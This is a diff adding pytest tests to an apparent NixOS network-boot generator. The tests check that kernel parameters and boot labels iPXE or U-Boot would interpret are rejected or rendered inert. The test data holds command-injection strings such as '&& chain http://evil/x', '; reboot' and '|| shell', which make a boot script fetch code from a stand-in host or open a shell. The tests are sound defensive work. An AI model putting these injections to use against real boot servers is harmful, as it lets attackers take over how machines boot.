@@ -696,3 +696,87 @@ def test_newlines_in_a_generation_never_reach_a_generated_file(env_factory, boot
         assert not any(line.lstrip().startswith(("chain", ":evil")) for line in text.splitlines()), text
         if boot != "rpi":   # the menus show the label, on its line
             assert "generation 1: NixOS 1 chain http://evil/label (" in text
+
+
+def ipxe_tokens(line: str) -> list[str]:
+    """What iPXE's parser makes of a script line (ipxe src/core/exec.c): whitespace-split words."""
+    return line.split()
+
+
+def ipxe_acts_on(word: str) -> bool:
+    """A word iPXE does not pass on as written: a command separator, a comment, a setting."""
+    return word in ("||", "&&", ";") or word.startswith("#") or "${" in word
+
+
+@pytest.mark.parametrize("params", [("quiet", "&&", "chain", "http://evil/x"), ("quiet", ";", "reboot"),
+                                    ("quiet", "||", "shell"), ("quiet", "#rest-ignored", "root=x"),
+                                    ("console=${console}",)])
+def test_kernel_parameters_ipxe_would_act_on_are_not_served_to_an_ipxe_host(env_factory, params):
+    """iPXE splits a script line at whitespace and runs what follows ``&&`` / ``;`` / ``||``
+    as a command, drops words from ``#`` on, and expands ``${…}``: such a generation cannot be
+    written into boot.ipxe as it is.  It is listed with the reason; the previous one is served.
+    A Pi sharing the profile gets it verbatim in cmdline.txt, which nothing parses."""
+    env = ipxe_env(env_factory)
+    good = env.add("1")
+    bad = env.add("2", bootspec=False, kernel_params=params)
+    snap = env.snapshot()
+    gen = snap.profile.get(bad)
+    assert not gen.valid and "iPXE" in " ".join(gen.problems)
+    assert snap.selection.number == good
+    script = data(snap.tree.files["boot.ipxe"]).decode()
+    assert f":nixos-{bad}" not in script and "generations/2/" not in " ".join(snap.tree.files)
+    kernel_lines = [line for line in script.splitlines() if line.startswith("kernel ")]
+    assert kernel_lines and not any(ipxe_acts_on(w) for line in kernel_lines for w in ipxe_tokens(line))
+
+    pi = env_factory("rpi")
+    pi.profile = env.profile
+    pi.host_table["profile"] = str(env.profile)
+    pi_snap = pi.snapshot()
+    assert pi_snap.selection.number == bad
+    assert " ".join(params) in data(pi_snap.tree.files["dc-a6-32-01-02-03/cmdline.txt"]).decode()
+
+
+def test_a_label_ipxe_would_act_on_is_shown_not_run(env_factory):
+    env = ipxe_env(env_factory)
+    n = env.add("1")
+    edit_bootspec(env.tops[n], label="25.05 && chain http://evil/x ; #x ${ip}")
+    script = data(env.tree().files["boot.ipxe"]).decode()
+    items = [line for line in script.splitlines() if line.startswith("item nixos-")]
+    assert len(items) == 1
+    assert not any(ipxe_acts_on(w) for w in ipxe_tokens(items[0])), items[0]
+    assert "chain http://evil/x" in items[0]
+
+
+@pytest.mark.parametrize("param", ["console=${console}", "x=$(bootargs)", "quote='a b'", "back=\\x"])
+def test_kernel_parameters_uboot_would_rewrite_are_not_served_to_a_uboot_host(env_factory, param):
+    """U-Boot's pxe passes APPEND through its macro expansion (cli_simple_process_macros):
+    ``${…}`` and ``$(…)`` are replaced, quotes and backslashes removed."""
+    env = uboot_env(env_factory)
+    good = env.add("1")
+    bad = env.add("2", kernel_params=("quiet", param))
+    snap = env.snapshot()
+    assert not snap.profile.get(bad).valid and "U-Boot" in " ".join(snap.profile.get(bad).problems)
+    assert snap.selection.number == good
+    assert "LABEL nixos-2" not in data(snap.tree.files[MENU]).decode()
+
+
+@pytest.mark.parametrize("boot", sorted(GENERATED))
+def test_a_kernel_command_line_the_kernel_would_cut_is_not_served(env_factory, boot):
+    """Linux keeps 2048 bytes of its command line (COMMAND_LINE_SIZE, arm64 and x86): the rest,
+    with the host's root=, would be dropped without a word."""
+    host = {} if boot == "rpi" else {"mac": IPXE_MAC, "cmdline": "ip=dhcp"}
+    env = env_factory(boot, **host)
+    good = env.add("1")
+    bad = env.add("2", kernel_params=tuple(f"opt{i}=value" for i in range(200)))
+    snap = env.snapshot()
+    assert not snap.profile.get(bad).valid and "2048" in " ".join(snap.profile.get(bad).problems)
+    assert snap.selection.number == good
+
+
+@pytest.mark.parametrize("boot, cmdline", [("ipxe", "ip=dhcp && chain http://x"), ("ipxe", "console=${c}"),
+                                           ("uboot", "console=${c}"), ("uboot", "a='b'")])
+def test_a_host_cmdline_its_boot_loader_would_act_on_is_a_config_error(env_factory, boot, cmdline):
+    env = env_factory(boot, mac=IPXE_MAC, cmdline=cmdline)
+    with pytest.raises(ConfigError) as exc:
+        env.config
+    assert "hosts.h.cmdline" in str(exc.value)
